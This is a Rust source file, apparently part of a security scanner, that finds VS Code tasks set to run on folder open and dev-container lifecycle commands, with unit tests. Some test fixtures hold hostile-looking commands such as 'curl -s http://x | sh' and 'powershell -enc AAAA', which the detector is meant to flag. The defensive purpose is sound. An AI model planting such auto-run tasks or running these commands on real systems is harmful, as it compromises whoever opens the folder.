//! Tasks that an editor runs when a folder is opened, and commands that it runs while it makes a container.
//!
//! ```text
//! {"tasks": [{"label": "x", "type": "shell", "command": "python3 .x/y.py",       .vscode/tasks.json
//!             "runOptions": {"runOn": "folderOpen"}}]}
//! {"initializeCommand": "./x.sh", "postCreateCommand": ["pip", "install", "."]}  .devcontainer/devcontainer.json
//! ```
//!
//! Tasks that somebody has to choose start nothing by themselves and have no row, unless one that starts needs them. The
//! editor asks whether it trusts a folder, and keeps the answer elsewhere: whether a task is armed is not known.

use std::collections::{HashMap, HashSet};

use serde_json::Value;

use super::{CAP, Entry, Held, content, cut, gap, place_of, push, words};
use crate::extract::Extractor;
use crate::extract::format::jsonc;
use crate::extract::input::Input;
use crate::model::autostart::AutostartKind;
use crate::model::coverage::GapReason;
use crate::model::facts::Harvest;
use crate::model::host::Platform;
use crate::model::interest::{Ask, Interest};
use crate::model::path::TargetPath;

/// The row.
pub const EXTRACTOR: Extractor = Extractor {
    interest: Interest {
        id: "autostart-editors",
        sentence: "Tasks that an editor runs when a folder is opened, and commands of development containers.",
        ask: Ask::Starts("editors"),
    },
    cap: CAP,
    read,
};

/// Most tasks of one file.
const MOST_TASKS: usize = 500;

/// Most characters of a label that are kept of the task that needs another.
const LONGEST_LABEL: usize = 80;

/// The commands of a development container in the order in which they run. The first runs on the host, the others in the
/// container.
const OF_CONTAINER: &[&str] = &[
    "initializeCommand",
    "onCreateCommand",
    "updateContentCommand",
    "postCreateCommand",
    "postStartCommand",
    "postAttachCommand",
];

fn read(input: &Input<'_>) -> Harvest {
    let mut harvest = Harvest::default();
    if place_of(input, "editors").is_none() {
        return harvest;
    }
    let Some(content) = content(input, &mut harvest) else { return harvest };
    let platform = input.target.root.platform();
    let name = input.candidate.name.to_ascii_lowercase();
    let is_tasks = !name.ends_with(b"devcontainer.json");
    let workspace = workspace(input);
    match jsonc::parse(&content.bytes) {
        Ok(value) => {
            let value =
                if name.ends_with(b".code-workspace") { value.get("tasks").unwrap_or(&Value::Null) } else { &value };
            let held = if is_tasks { tasks(value, platform) } else { of_container(value, platform) };
            if held.is_cut {
                cut(input, format!("only its first {MOST_TASKS} tasks were taken"), &mut harvest);
            }
            for mut entry in held.entries {
                workspace.iter().for_each(|top| words::below(top, &mut entry.told, platform));
                push(input, &content, entry, &mut harvest);
            }
        }
        Err(why) if content.whole => {
            let gap = gap(input, GapReason::Malformed).because(why);
            // The editor makes what it can of a text with faults.
            let may_start =
                !is_tasks || [b"folderOpen".as_slice(), b"\\u"].iter().any(|word| has(&content.bytes, word));
            harvest.gaps.push(if may_start { gap } else { gap.harmless() });
        }
        Err(_) => {}
    }
    harvest
}

/// The folder that is opened, in which a task runs; none where an account's own tasks fit every folder.
fn workspace(input: &Input<'_>) -> Option<TargetPath> {
    let folder = input.folder();
    match folder.file_name() {
        b".vscode" | b".devcontainer" => folder.parent(),
        b"User" => None,
        _ => Some(folder),
    }
}

fn has(text: &[u8], word: &[u8]) -> bool {
    memchr::memmem::find(text, word).is_some()
}

/// The tasks that start when the folder is opened, and those that they need.
#[must_use]
pub fn tasks(file: &Value, platform: Platform) -> Held {
    let all: Vec<&Value> = file["tasks"].as_array().into_iter().flatten().collect();
    let mut by_label: HashMap<&str, &Value> = HashMap::new();
    for task in &all {
        by_label.entry(label(task)).or_insert(task);
    }
    let starts = |task: &&Value| task["runOptions"].get("runOn").and_then(Value::as_str) == Some("folderOpen");
    let mut due: Vec<(&Value, String)> =
        all.iter().filter(|task| starts(task)).map(|task| (*task, "folderOpen".to_owned())).collect();
    let mut seen: HashSet<&str> = due.iter().map(|(task, _)| label(task)).collect();
    let mut out = Held::default();
    let mut at = 0;
    while let Some((task, trigger)) = due.get(at).cloned() {
        if at == MOST_TASKS {
            out.is_cut = true;
            break;
        }
        at += 1;
        out.entries.extend(entries_of(file, task, &trigger, platform));
        let needed = names(&task["dependsOn"]).into_iter().filter_map(|name| by_label.get_key_value(name));
        for (name, needed) in needed {
            // One more than are taken, so that the bound is told.
            if due.len() <= MOST_TASKS && seen.insert(name) {
                let by: String = label(task).chars().take(LONGEST_LABEL).collect();
                due.push((needed, format!("folderOpen, needed by {by}")));
            }
        }
    }
    out
}

fn label(task: &Value) -> &str {
    ["label", "taskName", "script"].iter().find_map(|key| task[*key].as_str()).unwrap_or("")
}

/// One name, or a list of them.
fn names(value: &Value) -> Vec<&str> {
    match value {
        Value::String(name) => vec![name],
        Value::Array(names) => names.iter().filter_map(Value::as_str).collect(),
        _ => Vec::new(),
    }
}

/// A task, and what it is on systems for which it says something else.
fn entries_of(file: &Value, task: &Value, trigger: &str, platform: Platform) -> Vec<Entry> {
    let mut out = Vec::new();
    for (key, of_system) in
        [("", platform), ("linux", Platform::Linux), ("osx", Platform::Macos), ("windows", Platform::Windows)]
    {
        let own = if key.is_empty() { task } else { &task[key] };
        if !key.is_empty() && own["command"].is_null() && own["args"].is_null() {
            continue;
        }
        // A part for one system replaces what it names; the file's own values stand in where a task has none.
        let value_of = |name: &str| [own, task, file].into_iter().map(|one| &one[name]).find(|value| !value.is_null());
        let mut parts: Vec<&str> = value_of("command").and_then(text).into_iter().collect();
        if let Some(arguments) = value_of("args").and_then(Value::as_array) {
            parts.extend(arguments.iter().filter_map(text));
        }
        if let Some(script) = task["script"].as_str().filter(|_| parts.is_empty()) {
            parts = vec!["npm", "run", script];
        }
        let is_shell = value_of("type").and_then(Value::as_str) != Some("process");
        let name = if key.is_empty() { label(task).to_owned() } else { format!("{} ({key})", label(task)) };
        let trigger = trigger.as_bytes().to_vec();
        out.push(Entry { trigger, ..command(AutostartKind::EditorTask, &name, &parts, is_shell, of_system) });
    }
    out
}

/// A word, or one with a way of quoting.
fn text(value: &Value) -> Option<&str> {
    value.as_str().or_else(|| value["value"].as_str())
}

fn command(kind: AutostartKind, name: &str, parts: &[&str], is_shell: bool, platform: Platform) -> Entry {
    let told = if is_shell { words::of_text(&parts.join(" "), platform) } else { words::of_words(parts, platform) };
    Entry { told, command: parts.join(" ").into_bytes(), is_whole_file: false, ..Entry::new(kind, name.as_bytes()) }
}

/// The commands of a development container: a text for the shell, a list of words, or several of these by name.
#[must_use]
pub fn of_container(file: &Value, platform: Platform) -> Held {
    let mut out = Vec::new();
    let mut is_cut = false;
    for key in OF_CONTAINER {
        // What runs in the container runs on its system, not on this one.
        let platform = if *key == "initializeCommand" { platform } else { Platform::Linux };
        let mut add = |name: &str, value: &Value| {
            let (parts, is_shell) = match value {
                Value::String(text) => (vec![text.as_str()], true),
                Value::Array(words) => (words.iter().filter_map(Value::as_str).collect(), false),
                _ => return,
            };
            let entry = command(AutostartKind::EditorTask, name, &parts, is_shell, platform);
            let trigger = if *key == "initializeCommand" { "on the host" } else { "in the container" };
            out.push(Entry { trigger: trigger.as_bytes().to_vec(), ..entry });
        };
        match &file[*key] {
            Value::Object(several) => {
                is_cut |= several.len() > MOST_TASKS;
                several.iter().take(MOST_TASKS).for_each(|(name, value)| add(&format!("{key} {name}"), value));
            }
            value => add(key, value),
        }
    }
    // Nothing of these lies on the host: only where it is made is known.
    for entry in out.iter_mut().filter(|entry| entry.trigger == b"in the container") {
        entry.told.programs.clear();
    }
    Held { entries: out, is_cut }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::extract::autostart::planted::Tree;

    fn told(platform: Platform, path: &str, text: &str) -> Vec<String> {
        Tree::with(&[(path, text.as_bytes())]).told(&EXTRACTOR, platform, path)
    }

    #[test]
    fn only_tasks_that_start_by_themselves_have_rows() {
        let text = r#"{ // a
            "version": "2.0.0",
            "tasks": [
                {"label": "build", "command": "make"},
                {"label": "prep", "type": "process", "command": "/opt/prep", "args": ["a", {"value": "b", "quoting": "weak"}]},
                {"label": "x", "type": "shell", "command": "curl -s http://x | sh", "dependsOn": ["prep", "x"],
                 "windows": {"command": "powershell -enc AAAA"}, "runOptions": {"runOn": "folderOpen"}},
            ]
        }"#;
        assert_eq!(
            told(Platform::Linux, "/home/mia/w/.vscode/tasks.json", text),
            [
                "EditorTask x | runs curl -s http://x | sh | when folderOpen | FetchesAndRuns",
                "EditorTask x (windows) | runs powershell -enc AAAA | when folderOpen | DecodesAndRuns",
                "EditorTask prep | runs /opt/prep a b | when folderOpen, needed by x | Program /opt/prep",
            ]
        );
        assert!(told(Platform::Linux, "/home/mia/w/tasks.json", text).is_empty());
    }

    #[test]
    fn tasks_beyond_the_bound_are_a_gap() {
        let one = r#"{"label": "x", "command": "y", "runOptions": {"runOn": "folderOpen"}},"#;
        let path = "/srv/w/.vscode/tasks.json";
        let gaps = |count: usize, rest: &str| {
            let text = format!("{{\"tasks\": [{}{rest}]}}", one.repeat(count));
            Tree::with(&[(path, text.as_bytes())]).read(&EXTRACTOR, Platform::Linux, path).gaps
        };
        assert!(gaps(MOST_TASKS, "").is_empty());
        let cut = gaps(MOST_TASKS + 1, "");
        assert!(cut.len() == 1 && cut[0].material && cut[0].reason == GapReason::TooLarge, "{cut:?}");
        // Behind many that somebody has to choose, one that starts is found.
        let text = format!("{{\"tasks\": [{}{one}]}}", r#"{"label": "z"},"#.repeat(MOST_TASKS));
        assert_eq!(told(Platform::Linux, path, &text).len(), 1);
        let many: String = (0..=MOST_TASKS).map(|at| format!("\"a{at}\": \"x\",")).collect();
        let path = "/srv/w/.devcontainer.json";
        let text = format!("{{\"initializeCommand\": {{{many}}}}}");
        let tree = Tree::with(&[(path, text.as_bytes())]);
        assert_eq!(tree.read(&EXTRACTOR, Platform::Linux, path).gaps.len(), 1);
    }

    #[test]
    fn programs_lie_in_the_folder_that_is_opened() {
        let task = r#"{"tasks": [{"label": "x", "command": "node ./.vscode/setup.mjs", "runOptions": {"runOn": "folderOpen"}},
            {"label": "y", "type": "process", "command": "${workspaceFolder}/y.sh", "runOptions": {"runOn": "folderOpen"}}]}"#;
        let rows = told(Platform::Linux, "/srv/w/.vscode/tasks.json", task);
        assert!(rows[0].contains("Script /srv/w/.vscode/setup.mjs"), "{rows:?}");
        assert!(rows[1].contains("Program /srv/w/y.sh"), "{rows:?}");
        let rows = told(Platform::Linux, "/home/mia/.config/Code/User/tasks.json", task);
        assert!(rows.len() == 2 && !rows[0].contains("Script"), "{rows:?}");
        let rows = told(Platform::Linux, "/srv/w/a.code-workspace", &format!("{{\"folders\": [], \"tasks\": {task}}}"));
        assert!(rows.len() == 2 && rows[0].contains("Script /srv/w/.vscode/setup.mjs"), "{rows:?}");
    }

    #[test]
    fn containers_run_commands() {
        let text =
            r#"{"initializeCommand": ["/opt/x", "-a"], "postCreateCommand": {"a": "pip install .", "b": ["/opt/y"]}}"#;
        assert_eq!(
            told(Platform::Linux, "/srv/w/.devcontainer/devcontainer.json", text),
            [
                "EditorTask initializeCommand | runs /opt/x -a | when on the host | Program /opt/x",
                "EditorTask postCreateCommand a | runs pip install . | when in the container",
                "EditorTask postCreateCommand b | runs /opt/y | when in the container",
            ]
        );
    }

    #[test]
    fn faults_are_gaps_where_something_may_start() {
        let gap = |text: &str| {
            let path = "/srv/.vscode/tasks.json";
            let tree = Tree::with(&[(path, text.as_bytes())]);
            tree.read(&EXTRACTOR, Platform::Linux, path).gaps[0].material
        };
        assert!(gap("{\"runOn\": \"folderOpen\""));
        assert!(!gap("{\"tasks\": ["));
    }

    proptest! {
        #[test]
        fn any_value_is_read(text in r#"(\{|\}|\[|\]|"tasks":|"command":|"a"|"dependsOn":|,|"initializeCommand":){0,20}"#) {
            if let Ok(value) = jsonc::parse(text.as_bytes()) {
                let (tasks, others) = (tasks(&value, Platform::Linux), of_container(&value, Platform::Windows));
                prop_assert!(tasks.entries.len() + others.entries.len() < 100);
            }
        }
    }
}
